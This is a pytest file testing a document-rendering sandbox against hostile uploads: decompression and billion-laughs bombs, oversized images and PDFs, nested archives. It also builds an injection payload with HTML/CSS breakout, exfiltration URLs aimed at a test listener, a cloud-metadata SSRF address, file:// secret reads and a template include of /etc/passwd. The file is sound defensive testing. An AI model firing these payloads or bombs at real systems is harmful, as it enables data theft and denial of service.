"""Bad input 恶意输入: the real sandbox, its real limits; nothing hangs, nothing is fetched, all is told."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from documents.rules.papers import FormField, FormSection, PaperTable
from documents.rules.volume import Enclosure
from pdf.sandbox import Limits, RenderFailed, Sandbox
from tests.pdf import bombs, samples, uploads
from tests.pdf.listening import listening
from tests.pdf.reading import text_pages, whole_text

TIGHT = Limits(memory_bytes=640 * 1024 * 1024, cpu_seconds=60, upload_cpu_seconds=10)
LAUGHING = bombs.laughing_xml("svg")


@cache
def hostile() -> tuple[tuple[str, bytes, str], ...]:
    """Uploads that mean harm, and what the archivist is told about each."""
    return (
        ("900兆像素.png", uploads.png(30_000, 30_000), "仅存原件：图片像素过多"),
        ("77兆像素.png", uploads.png(8_800, 8_750), "仅存原件：图片像素过多"),
        ("半张.jpg", samples.photograph(kind="JPEG")[:5000], "仅存原件：图片不完整"),
        ("巨幅.tif", bombs.tiff(40_000, 40_000), "仅存原件：图片像素过多"),
        ("空壳.tif", bombs.tiff(6_000, 6_000), "仅存原件：图片不完整"),
        ("无尽.tif", bombs.endless_tiff(), ""),
        ("巨幅.webp", bombs.webp(16_384, 16_384), "仅存原件：图片"),
        ("大笑.svg", LAUGHING, "仅存原件：SVG 图形"),
        (
            "大笑.docx",
            uploads.docx(head=LAUGHING[21:].decode().partition("<svg>")[0]),
            "仅存原件：文档内含实体声明",
        ),
        (
            "大笑.xlsx",
            uploads.zipped({"[Content_Types].xml": b"", "xl/a.xml": LAUGHING}),
            "仅存原件：文档内含实体声明",
        ),
        ("海报.pdf", uploads.blank_pdf(1, (14_400, 14_400)), ""),
        ("十万页.pdf", bombs.long_pdf(100_000), "共 100000 页，仅翻印前 60 页，其余见原件"),
        ("十亿字节.pdf", bombs.flate_pdf(1 << 30), "仅存原件：翻印未能完成："),
        ("套娃.zip", bombs.zip_of_zips(3), "仅存原件：ZIP 压缩文件，不解压"),
        ("套娃.eml", bombs.nested_mail(3000), "仅存原件：邮件结构嵌套过深"),
        ("末尾.png", samples.photograph(), ""),  # and this one is drawn after all of them
    )


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    with Sandbox(TIGHT) as made:
        yield made


def _enclosures() -> tuple[Enclosure, ...]:
    return tuple(samples.enclosure(name, "", content) for name, content, _ in hostile())


def test_hostile_uploads_cost_their_pages_and_never_the_case(sandbox: Sandbox) -> None:
    made = sandbox.volume(samples.volume(forms=(), letters=(), enclosures=_enclosures()))
    told = {name: said for one in made.warnings for name, said in re.findall("^附件“(.+?)”(.+)", one)}
    for name, _, said in hostile():
        assert told.get(name, "").startswith(said), name
        assert bool(told.get(name)) == bool(said), name
    assert len([entry for entry in made.contents if entry.title.startswith("附件")]) == len(hostile())
    assert made.contents[-1].note == ""


# --- what people type ---------------------------------------------------------------------------------


def _form(*answers: FormField, tables: tuple[PaperTable, ...] = ()) -> Any:
    return samples.form(sections=(FormSection("内容", answers, tables),))


def test_two_hundred_thousand_characters_in_a_field_are_printed(sandbox: Sandbox, tmp_path: Path) -> None:
    said = "开头。" + "柜面排队两小时无人解释。" * 16_666 + "结尾。"
    assert len(said) > 199_000
    printed = whole_text(sandbox.paper(_form(FormField("事实", said, wide=True))), tmp_path)
    assert "开头。柜面排队" in printed
    assert "无人解释。结尾。" in printed


def test_a_flood_of_lines_and_page_breaks_takes_no_flood_of_pages(sandbox: Sandbox, tmp_path: Path) -> None:
    flood = "甲\f\n\v\u2028\x85" * 4_000
    pages = text_pages(sandbox.paper(_form(FormField("事实", flood, wide=True))), tmp_path)
    assert len(pages) < 60
    assert "甲／甲／甲" in pages[-1]
    assert "[U+" not in "".join(pages)


def test_a_table_bomb_is_ended_by_the_limit() -> None:
    cells = tuple("值" for _ in range(100))
    table = PaperTable(cells, tuple(cells for _ in range(300)))
    with (
        Sandbox(Limits(cpu_seconds=1)) as small,
        pytest.raises(RenderFailed, match="计算超过 1 秒") as caught,
    ):
        small.paper(_form(tables=(table,)))
    assert not caught.value.retryable


def _payload(address: str, secret: str) -> str:
    return (
        f'"\'></td></table><style>@import "{address}/a";@font-face{{font-family:x;src:url({address}/f)}}'
        f"*{{font-family:x;background:url({secret})}}</style><link rel=attachment href={secret}>"
        f"<img src={address}/i><img src=http://169.254.169.254/><embed src={secret}>"
        f"<script>fetch('{address}')</script>"
        "{{ 7*7 }}{% include '/etc/passwd' %}\u202e\x00"
    )


def _infected(value: Any, payload: str) -> Any:
    """The same value with the payload behind every text in it."""
    result = value
    if isinstance(value, str):
        result = f"{value[:12]}{payload}"
    elif isinstance(value, tuple):
        result = tuple(_infected(one, payload) for one in value)
    elif is_dataclass(value) and not isinstance(value, type):
        kept = {"sha256", "filing", "flavour"}
        parts = {one.name: getattr(value, one.name) for one in fields(value) if one.name not in kept}
        result = replace(value, **{name: _infected(one, payload) for name, one in parts.items()})
    return result


def test_what_is_typed_is_printed_and_never_obeyed(sandbox: Sandbox, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-OF-THE-HOUSE")
    content = samples.volume(
        forms=(_form(FormField("姓名", "李"), tables=(PaperTable(("甲", "乙"), (("一", "二"),)),)),),
        letters=(samples.letter(paragraphs=("正文",)),),
        events=samples.events()[:1],
        deadlines=samples.deadlines()[:1],
        enclosures=(samples.enclosure("x", "", b"MZ\0"), samples.enclosure("图", "", samples.photograph())),
    )
    with listening() as listener:
        payload = _payload(listener.address, secret.as_uri())
        mail = uploads.mail(" ", html=payload, Subject=payload.replace("\0", ""))
        infected = _infected(content, payload)
        letter = samples.enclosure("信.eml", "", mail.as_bytes())
        made = sandbox.volume(replace(infected, enclosures=(*infected.enclosures, letter))).content
    printed = whole_text(made, tmp_path)
    assert listener.heard == []
    assert printed.count("<script>fetch(") > 30
    assert "{{7*7}}" in printed
    assert "[U+202E]" in printed
    assert "TOP-SECRET" not in printed
    assert b"TOP-SECRET" not in made
    assert "root:" not in printed
